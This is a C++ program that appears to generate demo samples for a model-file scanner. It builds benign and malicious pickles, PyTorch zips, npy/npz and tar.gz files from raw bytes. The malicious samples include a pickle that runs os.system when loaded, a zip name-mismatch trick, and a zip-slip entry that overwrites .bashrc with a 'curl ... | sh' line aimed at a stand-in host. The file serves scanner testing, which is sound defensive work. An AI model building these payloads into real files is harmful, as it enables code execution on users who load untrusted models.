// Writes the demo sample set that `make demo` scans: for each format, benign files and files
// carrying a known attack. Everything is built from bytes here; nothing is downloaded.
//   usage: airlock-demo-gen OUT_DIR
#include <cstdint>
#include <cstdio>
#include <filesystem>
#include <string>

#include "core/file.h"

// Containers (zip, npz, tar.gz) for the demo set.
#include <archive.h>
#include <archive_entry.h>
#include <zlib.h>

#include <vector>

namespace {

namespace fs = std::filesystem;

bool Write(const fs::path& path, const std::string& bytes) {
  fs::create_directories(path.parent_path());
  auto s = airlock::core::WriteFileAtomic(path.string(), bytes);
  if (!s.ok()) std::fprintf(stderr, "demo-gen: %s\n", s.message().c_str());
  return s.ok();
}

// Protocol-2 pickle of collections.OrderedDict() with one int item: what a state_dict looks like.
std::string BenignPickle() {
  std::string p = "\x80\x02";
  p += "ccollections\nOrderedDict\nq\x00)Rq\x01";
  p += "X\x06\x00\x00\x00weightq\x02K\x07s.";
  return p;
}

// Protocol-2 pickle that calls os.system("echo pwned") when loaded.
std::string MaliciousPickle() {
  std::string p = "\x80\x02";
  p += "cposix\nsystem\nq\x00X\x0b\x00\x00\x00echo pwnedq\x01\x85q\x02Rq\x03.";
  return p;
}

// --- Container samples (zip, PyTorch zip, npy/npz, tar.gz) ---

void PutLe(std::string& s, std::uint64_t v, int bytes) {
  for (int i = 0; i < bytes; ++i) s += static_cast<char>((v >> (8 * i)) & 0xff);
}

struct DemoZipMember {
  std::string name;
  std::string data;
  std::string local_name;  // non-empty: a different name in the local header (a zip trick)
};

// A stored (uncompressed) zip, laid out like PyTorch writes it.
std::string DemoZip(const std::vector<DemoZipMember>& members) {
  std::string out, central;
  for (const auto& m : members) {
    auto crc = static_cast<std::uint32_t>(
        crc32(0, reinterpret_cast<const Bytef*>(m.data.data()), static_cast<uInt>(m.data.size())));
    std::uint32_t offset = static_cast<std::uint32_t>(out.size());
    const std::string& lname = m.local_name.empty() ? m.name : m.local_name;
    out += "PK\x03\x04";
    PutLe(out, 20, 2);
    PutLe(out, 0, 2);
    PutLe(out, 0, 2);
    PutLe(out, 0, 4);
    PutLe(out, crc, 4);
    PutLe(out, m.data.size(), 4);
    PutLe(out, m.data.size(), 4);
    PutLe(out, lname.size(), 2);
    PutLe(out, 0, 2);
    out += lname + m.data;
    central += "PK\x01\x02";
    PutLe(central, 20, 2);
    PutLe(central, 20, 2);
    PutLe(central, 0, 2);
    PutLe(central, 0, 2);
    PutLe(central, 0, 4);
    PutLe(central, crc, 4);
    PutLe(central, m.data.size(), 4);
    PutLe(central, m.data.size(), 4);
    PutLe(central, m.name.size(), 2);
    PutLe(central, 0, 8);  // extra, comment, disk and internal-attribute fields
    PutLe(central, 0, 4);
    PutLe(central, offset, 4);
    central += m.name;
  }
  std::uint32_t cd_offset = static_cast<std::uint32_t>(out.size());
  out += central;
  out += "PK\x05\x06";
  PutLe(out, 0, 4);
  PutLe(out, members.size(), 2);
  PutLe(out, members.size(), 2);
  PutLe(out, central.size(), 4);
  PutLe(out, cd_offset, 4);
  PutLe(out, 0, 2);
  return out;
}

// torch.save layout: archive/data.pkl, a raw float storage, version and byteorder records.
std::string DemoPyTorchZip(const std::string& data_pkl, const std::string& local_name = "") {
  std::string storage;
  for (int i = 0; i < 16; ++i) PutLe(storage, 0x3f800000u + i, 4);  // float32 values
  return DemoZip({{"archive/data.pkl", data_pkl, local_name},
                  {"archive/byteorder", "little", ""},
                  {"archive/data/0", storage, ""},
                  {"archive/version", "3\n", ""}});
}

std::string DemoNpy(const std::string& dict, const std::string& payload) {
  std::string header = dict;
  while ((10 + header.size() + 1) % 64 != 0) header += ' ';
  header += '\n';
  std::string out("\x93NUMPY\x01\x00", 8);
  PutLe(out, header.size(), 2);
  return out + header + payload;
}

// A gzip-compressed tar holding the given files.
std::string DemoTarGz(const std::vector<std::pair<std::string, std::string>>& files) {
  std::string buf(1u << 20, '\0');
  std::size_t used = 0;
  archive* a = archive_write_new();
  archive_write_set_format_pax_restricted(a);
  archive_write_add_filter_gzip(a);
  archive_write_open_memory(a, buf.data(), buf.size(), &used);
  for (const auto& [name, data] : files) {
    archive_entry* e = archive_entry_new();
    archive_entry_set_pathname(e, name.c_str());
    archive_entry_set_filetype(e, AE_IFREG);
    archive_entry_set_perm(e, 0644);
    archive_entry_set_size(e, static_cast<la_int64_t>(data.size()));
    archive_write_header(a, e);
    archive_write_data(a, data.data(), data.size());
    archive_entry_free(e);
  }
  archive_write_close(a);
  archive_write_free(a);
  buf.resize(used);
  return buf;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 2) {
    std::fprintf(stderr, "usage: airlock-demo-gen OUT_DIR\n");
    return 2;
  }
  fs::path out = argv[1];
  bool ok = true;
  ok &= Write(out / "benign" / "state_dict.pkl", BenignPickle());
  ok &= Write(out / "malicious" / "os_system.pkl", MaliciousPickle());
  // Containers.
  std::string floats;
  for (int i = 0; i < 6; ++i) PutLe(floats, 0x40000000u + i, 4);
  std::string f4 = DemoNpy("{'descr': '<f4', 'fortran_order': False, 'shape': (2, 3), }", floats);
  ok &= Write(out / "benign" / "pytorch_model.pt", DemoPyTorchZip(BenignPickle()));
  ok &= Write(out / "benign" / "arrays.npz",
              DemoZip({{"weights.npy", f4, ""}, {"bias.npy", f4, ""}}));
  ok &=
      Write(out / "benign" / "checkpoint.tar.gz",
            DemoTarGz({{"model/state_dict.pkl", BenignPickle()}, {"model/README.txt", "demo\n"}}));
  ok &= Write(out / "malicious" / "pytorch_os_system.pt", DemoPyTorchZip(MaliciousPickle()));
  // CVE-2025-1944 technique: local header and central directory disagree on the name.
  ok &= Write(out / "malicious" / "pytorch_name_mismatch.pt",
              DemoPyTorchZip(BenignPickle(), "archive/datap.kl"));
  ok &=
      Write(out / "malicious" / "object_array.npy",
            DemoNpy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", MaliciousPickle()));
  ok &= Write(out / "malicious" / "zip_slip.zip",
              DemoZip({{"../../.bashrc", "curl http://example.invalid/x | sh\n", ""}}));
  ok &= Write(out / "malicious" / "model.tar.gz",
              DemoTarGz({{"model/os_system.pkl", MaliciousPickle()}}));
  return ok ? 0 : 1;
}
